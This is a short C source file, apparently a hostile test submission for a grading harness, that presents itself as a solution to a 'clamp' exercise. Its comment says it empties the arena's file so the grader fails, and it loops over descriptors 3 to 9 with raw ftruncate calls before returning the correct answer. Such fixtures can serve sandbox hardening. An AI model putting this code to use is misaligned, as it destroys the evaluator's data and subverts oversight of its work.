/* Makes the arena's file empty, so that the grader dies of its own memory. */
#include "exercise.h"
#include "hostile.h"

void clamp(int32_t *values, size_t n, int32_t lo, int32_t hi)
{
    for (long fd = 3; fd < 10; fd++)
        call(NR_ftruncate, fd, 0, 0, 0, 0, 0);
    answer(values, n, lo, hi);
}
